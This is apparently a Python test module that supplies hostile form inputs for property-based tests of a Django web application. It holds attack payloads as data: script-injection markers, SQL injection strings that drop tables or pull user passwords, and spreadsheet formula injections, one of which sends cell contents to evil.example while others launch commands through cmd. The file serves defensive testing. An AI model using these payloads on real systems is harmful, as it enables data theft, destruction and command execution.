"""Hostile values for the property tests: what a careless paste, a broken client or an
attacker may send in any form field or query parameter.

Every strategy yields ``str`` (what arrives over HTTP). Lone surrogates cannot be sent as
UTF-8; ``tests/hostile/http.py`` sends them as the bytes a broken client would
(``"\\ud800".encode("utf-8", "surrogatepass")`` = ED A0 80), which Django decodes to U+FFFD.
"""

import os

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

# Bounded so that the suite stays fast: a few dozen examples per form, no deadline (a
# request can take a while on a busy machine), and function-scoped fixtures on purpose
# (each example runs in a savepoint that is rolled back, see http.rolled_back). In CI
# (CI=true) the examples are derandomized, so a run is repeatable.
settings.register_profile(
    "hostile",
    max_examples=30,
    deadline=None,
    database=None,
    derandomize=bool(os.environ.get("CI")),
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
    ],
)
HOSTILE = settings.get_profile("hostile")


MEGABYTE = 1024 * 1024

# Markers that must never reach a page unescaped (checked in http.assert_escaped).
XSS = [
    '<script>alert("h10")</script>',
    '"><img src=x onerror=alert("h10")>',
    "'><svg onload=alert('h10')>",
    "javascript:alert('h10')",
    '<a href="javascript:alert(1)">x</a>',
    "</textarea><script>alert('h10')</script>",
    "</title><script>alert('h10')</script>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    "{{ 7|add:7 }}{% debug %}",
    "${7*7}#{7*7}",
    '{"x": "</script><script>alert(1)</script>"}',
]
SQL = [
    "' OR '1'='1",
    "'; DROP TABLE projects_project; --",
    '" OR 1=1 --',
    "1; SELECT pg_sleep(5) --",
    "1' UNION SELECT username, password FROM projects_user --",
    "%' AND 1=0 UNION SELECT NULL --",
    "\\'; --",
    "%",
    "_",
    "%%%%",
    "\\",
]
# Text a spreadsheet program would run as a formula if a cell held it as it is (formula or
# "CSV" injection, OWASP): each starts with = + - @, a tab or a carriage return, and goes
# on in Thai. Error codes (#N/A…) are not formulas but openpyxl would type them as errors.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")',
    "=1+1 โครงการพัฒนาคลอง",
    "+1+cmd|' /C calc'!A0 ข้อความ",
    "-2+3+cmd|' /C calc'!A0 ปัญหา",
    "@SUM(1+1)*cmd|' /C calc'!A0 อุปสรรค",
    "\t=1+1 แท็บนำหน้า",
    "\r=1+1 ขึ้นบรรทัดนำหน้า",
    "=cmd|' /C notepad'!'A1' ขั้นตอน",
    "#N/A",
    "-",
]
ODD_UNICODE = [
    "\x00",
    "abc\x00def",
    "\x00" * 10,
    "\u202egnp.exe",  # right-to-left override
    "\u202dโครงการ\u202c",
    "\u200d\u200c\u200b",  # zero-width joiner, non-joiner, space
    "\ufeff",
    "ก่่่่่่่่่่่่่่่่่่่่่่่่่่่่่่",  # Thai tone marks stacked
    "ก" + "\u0e48\u0e49\u0e4a\u0e4b" * 50,
    "ำ",  # SARA AM
    "\u0e4d\u0e32",  # NIKHAHIT + SARA AA: looks like ำ, compares unequal
    "น้ำ",
    "\u0e4dา\u0e48",
    "\u0e31\u0e34\u0e35\u0e36\u0e37\u0e38\u0e39\u0e3a",  # combining marks with no base
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319",  # zalgo
    "\ud800",  # lone high surrogate (sent as ED A0 80)
    "a\udfffb",
    "\U0001f600\U0001f1f9\U0001f1ed",
    "\r\n\r\n",
    "\t\v\f",
    "\x1b[31mred",
    "\u2028\u2029",
    "๑๒๓๔",
    "\uffff\ufffe",
    "\u0301",
]


class Big(str):
    """A long string with a short repr (hypothesis prints the examples it tries)."""

    def __repr__(self) -> str:
        return f"Big({str.__repr__(self[:12])} × {len(self):,} chars)"


HUGE = [
    Big("x" * MEGABYTE),
    Big("ก่" * (MEGABYTE // 2)),
    Big("<script>" * 10_000),
    Big("9" * 100_000),
]
# Lines that sent the page importer's old patterns backtracking for seconds to minutes
# (issue 12, item 4): long runs of what sits between two quantifiers, then a character that
# makes the match fail.
BACKTRACKING = [
    Big(":" + " " * 5_000 + "x"),
    Big(":x" + " " * 20_000 + "x"),
    Big("*" * 3_000 + "\x01"),
    Big("**** ก" + " " * 20_000 + "*x"),
    Big("(1) ความคืบหน้าโครงการฯ ร้อยละ" + " " * 20_000 + "x"),
    Big("(คลิก)" + " " * 20_000 + "x"),
    Big("(คลิก) ก" + ":x" * 10_000 + " ก"),
    Big("ค่าเป้าหมาย" + " " * 20_000 + "x"),
    Big("ผลงานที่ทำได้" + " " * 20_000 + "x"),
    Big("สำนักงาน" + " " * 20_000 + "x"),
    Big("นางสุดา" + " " * 20_000 + "x"),
]
# Typed in a decimal field with two places (percent, score, result), never a number it may
# take: not finite, not a number, a third decimal place, more digits than the column holds.
NEVER_A_DECIMAL = frozenset(
    {
        "NaN",
        "nan",
        "-NaN",
        "sNaN",
        "Infinity",
        "-Infinity",
        "inf",
        "1e309",
        "-1e309",
        "abc",
        "45.123",
        "0x10",
        "4 5",
        "9" * 30,
    }
)
NUMBERS = [
    "-1",
    "-0",
    "-0.01",
    "100.01",
    "101",
    "NaN",
    "nan",
    "-NaN",
    "sNaN",
    "Infinity",
    "-Infinity",
    "inf",
    "1e309",
    "-1e309",
    "1e-400",
    "1E2",
    "abc",
    "",
    " ",
    "4 5",
    "45,5",
    "1,000",
    "0x10",
    "1_0",
    "+5",
    "๔๕.๕๐",
    "٤٥",
    "45.123",
    "45.",
    ".5",
    "00000000000000000000045",
    "9" * 30,
    Big("9" * 5000),
    "-" + "9" * 30,
    Big("1" + "0" * 400),
    "9223372036854775808",
    "-9223372036854775809",
    "2147483648",
    "32768",
    "1.5",
    "0.000000000001",
]
# Amounts of money as people type them and as attackers do (projects/money.py).
AMOUNTS = [
    "1,234,567.89",
    "1234567.89",
    "1,234,567.89 บาท",
    "999,999,999,999.99",
    "1,000,000,000,000.00",
    "1e30",
    "1,2,3",
    "12,34.5",
    "๑๒๓",
    "-5",
    "−5",
    "12.345",
    "0",
    "0.00",
    "1 000",
]
DATES = [
    "31/02/2564",
    "30/02/2568",
    "29/02/2567",
    "29/02/2568",
    "2564-13-01",
    "2564-00-10",
    "2021-02-29",
    "0000-01-01",
    "0001-01-01",
    "9999-12-31",
    "01/01/0",
    "01/01/0000",
    "01/01/2401",
    "31/12/9999",
    "01/01/10542",
    "01/01/99999",
    "99/99/9999",
    "00/00/0000",
    "-1/-1/-1",
    "๓๑/๐๒/๒๕๖๔",
    "๐๑/๑๐/๒๕๖๘",
    "1/1/" + "9" * 30,
    "2564/09/22",
    "22-09-2564",
    "22.09.2564",
    "yesterday",
    "2021-09-22T00:00:00",
    "2021-09-22 ; DROP TABLE x",
    "22/09/2564\x00",
    "٢٢/٠٩/٢٥٦٤",
]

PLAIN_TEXT = st.text(
    alphabet=st.characters(
        codec="utf-8",
        # Thai, Latin, controls and marks, punctuation: what people and tools paste.
        categories=["L", "M", "N", "P", "S", "Z", "Cc", "Cf"],
    ),
    max_size=60,
)


def texts() -> st.SearchStrategy[str]:
    """Free text: payloads, odd Unicode, huge strings, and random mixes of them."""
    fixed = st.sampled_from(XSS + SQL + FORMULAS + ODD_UNICODE)
    return st.one_of(
        fixed,
        st.sampled_from(HUGE),
        PLAIN_TEXT,
        st.tuples(fixed, PLAIN_TEXT, fixed).map("".join),
    )


def numbers() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(NUMBERS),
        st.decimals(allow_nan=True, allow_infinity=True).map(str),
        st.floats().map(repr),
        st.integers(min_value=-(10**40), max_value=10**40).map(str),
        st.sampled_from(XSS + SQL + ODD_UNICODE[:6]),
    )


def dates() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(DATES),
        st.dates().map(lambda d: d.isoformat()),
        st.tuples(st.integers(-5, 120), st.integers(-5, 20), st.integers(-10, 100_000)).map(
            lambda t: f"{t[0]:02d}/{t[1]:02d}/{t[2]}"
        ),
        st.sampled_from(XSS[:3] + SQL[:3] + ODD_UNICODE[:4]),
    )


def anything() -> st.SearchStrategy[str]:
    """For fields and parameters of any kind: ids, choices, page numbers, tokens."""
    return st.one_of(texts(), numbers(), dates())


def maybe(strategy: st.SearchStrategy[str]) -> st.SearchStrategy[str | None]:
    """The value, or the field left out of the request altogether (None)."""
    return st.one_of(st.none(), strategy)
